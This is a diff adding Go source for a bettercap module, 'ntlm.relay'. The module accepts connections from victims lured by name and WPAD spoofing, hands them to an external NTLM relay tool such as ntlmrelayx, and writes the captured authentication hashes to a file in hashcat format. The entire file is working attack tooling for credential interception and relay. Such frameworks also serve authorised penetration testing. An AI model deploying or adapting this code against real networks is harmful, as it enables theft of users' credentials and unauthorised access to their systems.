@@ -0,0 +1,219 @@
+package ntlm_relay
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"strconv"
+	"sync"
+
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/evilsocket/islazy/str"
+)
+
+type NTLMRelay struct {
+	session.SessionModule
+	address   string
+	ports     []int
+	handoff   string
+	offset    int
+	output    string
+	listeners []*net.TCPListener
+	conns     map[*relayConn]bool
+	connsLock *sync.Mutex
+	outLock   *sync.Mutex
+	waitGroup *sync.WaitGroup
+}
+
+func NewNTLMRelay(s *session.Session) *NTLMRelay {
+	mod := &NTLMRelay{
+		SessionModule: session.NewSessionModule("ntlm.relay", s),
+		listeners:     make([]*net.TCPListener, 0),
+		conns:         make(map[*relayConn]bool),
+		connsLock:     &sync.Mutex{},
+		outLock:       &sync.Mutex{},
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.AddParam(session.NewStringParameter("ntlm.relay.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"Address to accept the victims connections on."))
+
+	mod.AddParam(session.NewStringParameter("ntlm.relay.ports",
+		"80,445",
+		`^\s*\d+(\s*,\s*\d+)*\s*$`,
+		"Comma separated list of ports to accept the victims connections on."))
+
+	mod.AddParam(session.NewStringParameter("ntlm.relay.handoff",
+		"127.0.0.1",
+		"",
+		"Address of the external relay tool (such as ntlmrelayx) the connections are handed off to."))
+
+	mod.AddParam(session.NewIntParameter("ntlm.relay.handoff.offset",
+		"10000",
+		"Added to the port of each connection to get the port of the relay tool, so that 445 is handed off to 10445 by default."))
+
+	mod.AddParam(session.NewStringParameter("ntlm.relay.output",
+		"",
+		"",
+		"If not empty, the hashcat lines of the captured authentications are appended to this file."))
+
+	mod.AddHandler(session.NewModuleHandler("ntlm.relay on", "",
+		"Start accepting connections and hand them off to the relay tool, reporting every NTLMSSP message going through.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("ntlm.relay off", "",
+		"Stop accepting connections and close the active ones.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	return mod
+}
+
+func (mod NTLMRelay) Name() string {
+	return "ntlm.relay"
+}
+
+func (mod NTLMRelay) Description() string {
+	return "Hands off the connections of victims lured by the name and WPAD spoofers to an external NTLM relay tool, reporting the full NTLMSSP messages and the captured hashes."
+}
+
+func (mod NTLMRelay) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *NTLMRelay) Configure() (err error) {
+	var ports string
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if err, mod.address = mod.StringParam("ntlm.relay.address"); err != nil {
+		return err
+	} else if err, ports = mod.StringParam("ntlm.relay.ports"); err != nil {
+		return err
+	} else if err, mod.handoff = mod.StringParam("ntlm.relay.handoff"); err != nil {
+		return err
+	} else if err, mod.offset = mod.IntParam("ntlm.relay.handoff.offset"); err != nil {
+		return err
+	} else if err, mod.output = mod.StringParam("ntlm.relay.output"); err != nil {
+		return err
+	} else if mod.handoff == "" {
+		return fmt.Errorf("ntlm.relay.handoff can not be empty")
+	}
+
+	mod.ports = make([]int, 0)
+	for _, token := range str.Comma(ports) {
+		port, err := strconv.Atoi(token)
+		if err != nil || port < 1 || port > 65535 {
+			return fmt.Errorf("invalid port %s", token)
+		} else if port+mod.offset < 1 || port+mod.offset > 65535 {
+			return fmt.Errorf("port %d can't be handed off with an offset of %d", port, mod.offset)
+		}
+		mod.ports = append(mod.ports, port)
+	}
+
+	mod.listeners = make([]*net.TCPListener, 0, len(mod.ports))
+	for _, port := range mod.ports {
+		addr := &net.TCPAddr{IP: net.ParseIP(mod.address), Port: port}
+		listener, err := net.ListenTCP("tcp", addr)
+		if err != nil {
+			mod.closeListeners()
+			return err
+		}
+		mod.listeners = append(mod.listeners, listener)
+	}
+
+	return nil
+}
+
+func (mod *NTLMRelay) closeListeners() {
+	for _, listener := range mod.listeners {
+		listener.Close()
+	}
+	mod.listeners = nil
+}
+
+func (mod *NTLMRelay) handoffAddress(port int) string {
+	return net.JoinHostPort(mod.handoff, strconv.Itoa(port+mod.offset))
+}
+
+func (mod *NTLMRelay) acceptLoop(listener *net.TCPListener, port int) {
+	defer mod.waitGroup.Done()
+
+	for mod.Running() {
+		conn, err := listener.AcceptTCP()
+		if err != nil {
+			if mod.Running() {
+				mod.Warning("error while accepting connection on port %d: %s", port, err)
+				continue
+			}
+			return
+		}
+
+		go mod.handleConnection(conn, port)
+	}
+}
+
+func (mod *NTLMRelay) track(c *relayConn, active bool) {
+	mod.connsLock.Lock()
+	defer mod.connsLock.Unlock()
+
+	if active {
+		mod.conns[c] = true
+	} else {
+		delete(mod.conns, c)
+	}
+}
+
+func (mod *NTLMRelay) saveHash(line string) {
+	if mod.output == "" {
+		return
+	}
+
+	mod.outLock.Lock()
+	defer mod.outLock.Unlock()
+
+	fp, err := os.OpenFile(mod.output, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0600)
+	if err != nil {
+		mod.Error("error opening %s: %s", mod.output, err)
+		return
+	}
+	defer fp.Close()
+
+	if _, err = fmt.Fprintln(fp, line); err != nil {
+		mod.Error("error writing to %s: %s", mod.output, err)
+	}
+}
+
+func (mod *NTLMRelay) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		for i, listener := range mod.listeners {
+			mod.Info("handing off %s to %s", listener.Addr(), mod.handoffAddress(mod.ports[i]))
+			mod.waitGroup.Add(1)
+			go mod.acceptLoop(listener, mod.ports[i])
+		}
+	})
+}
+
+func (mod *NTLMRelay) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.closeListeners()
+
+		mod.connsLock.Lock()
+		for c := range mod.conns {
+			c.Close()
+		}
+		mod.connsLock.Unlock()
+
+		mod.waitGroup.Wait()
+	})
+}